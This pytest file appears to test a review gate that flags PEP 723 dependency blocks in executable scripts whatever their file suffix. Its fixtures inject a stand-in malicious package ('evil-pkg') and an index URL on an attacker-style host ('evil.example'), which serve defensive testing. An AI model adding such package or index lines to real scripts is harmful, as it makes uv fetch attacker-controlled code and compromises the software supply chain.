"""Attack 24: PEP 723 inline metadata in an executable with a suffix other than `.py`.

Red team 29 made an executable without a suffix (`bin/sync`, shebang `#!/usr/bin/env -S uv run --script`) a
dependency manifest. The shebang is what runs uv, not the name: `./bin/sync.sh`, `./tools/release.uv` or
`./bin/gen.py3` held at mode 100755 with that shebang install what their `# /// script` block declares just the same
(uv's `--script` reads the block whatever the suffix). On b7942c9 a package or index added to such a block was `src`
and `gate --enable deps` allowed it in both modes. Now an executable side (mode 100755 in a tree, or as the patch
gives it) is read for the block's opening line, whatever its suffix; the same files without the block, and a block in
a file nobody can execute (mode 100644, `.sh`), stay allowed."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from conftest import POLICY_DIR
from gitdiffs import commit_patch
from gitrepo import GitRepo
from incli import run_cli
from test_deps_gate import unreviewed

SHEBANG = "#!/usr/bin/env -S uv run --script\n"
BLOCK = '# /// script\n# requires-python = ">=3.11"\n# dependencies = [\n#   "requests<3",\n# ]\n# ///\n'
BODY = SHEBANG + BLOCK + "import requests\nprint(requests.__version__)\n"
EDITS = {"package": ("# ]\n", '#   "evil-pkg==1.0",\n# ]\n'),
         "index": ("# ]\n", '# ]\n# [tool.uv]\n# index-url = "https://evil.example/simple"\n')}
PATHS = ["bin/sync.sh", "tools/release.uv", "bin/gen.py3", "scripts/task.pyz", "bin/notes.txt"]


def _commits(root: Path, base: dict[str, str], head: dict[str, str], mode: int) -> tuple[GitRepo, str, str, Path, Path]:
    repo = GitRepo(root / "repo")
    repo.write("README.md", "app\n")
    for path, text in base.items():
        repo.write(path, text, mode=mode)
    first = repo.commit("base")
    for path, text in head.items():
        repo.write(path, text, mode=mode)
    second = repo.commit("head")
    patch = root / "change.diff"
    patch.write_bytes(commit_patch(repo, first, second, "--binary"))
    packet = root / "packet.json"
    done = run_cli(["packet", str(patch), "--out", str(packet), "--policy", str(POLICY_DIR)], text=True)
    assert done.returncode == 0, done.stderr
    return repo, first, second, patch, packet


def _gate(case: tuple[GitRepo, str, str, Path, Path], tree: bool) -> tuple[int, dict[str, Any]]:
    repo, first, second, patch, packet = case
    where = ["--tree", f"{first}..{second}", "--repo", str(repo.root)] if tree else []
    done = run_cli(["gate", str(packet), "--patch", str(patch), "--policy", str(POLICY_DIR), "--format", "json",
                    "--enable", "deps", *where], text=True)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, json.loads(str(done.stdout))


@pytest.mark.parametrize("added", [False, True], ids=["edited", "added"])
def test_a_uv_executable_of_any_suffix_is_reviewed(tmp_path: Path, added: bool) -> None:
    # Each path and edit in a folder of its own (v<n>/), one repository: every one must be named by a review finding.
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    paths: dict[str, set[str]] = {}
    for number, (path, (edit, (old, new))) in enumerate((p, e) for p in PATHS for e in EDITS.items()):
        if not added:
            base[f"v{number}/{path}"] = BODY
        head[f"v{number}/{path}"] = BODY.replace(old, new)
        paths[f"{path} {edit}"] = {f"v{number}/{path}"}
    case = _commits(tmp_path, base, head, 0o755)
    for tree in (False, True):
        code, decision = _gate(case, tree)
        assert code == 3 and not unreviewed(decision, paths), (tree, unreviewed(decision, paths))


def test_look_alikes_stay_allowed(tmp_path: Path) -> None:
    """An executable shell script without the block, and the block in a file no one executes (mode 100644)."""
    shell = "#!/bin/sh\n# dependencies = curl\necho {n}\n"
    case = _commits(tmp_path, {"bin/a.sh": shell.format(n=1)}, {"bin/a.sh": shell.format(n=2)}, 0o755)
    for tree in (False, True):
        assert _gate(case, tree)[0] == 0, tree
    case = _commits(tmp_path / "b", {"docs/sync.sh": BODY}, {"docs/sync.sh": BODY.replace("requests<3", "requests<4")},
                    0o644)
    for tree in (False, True):
        assert _gate(case, tree)[0] == 0, tree
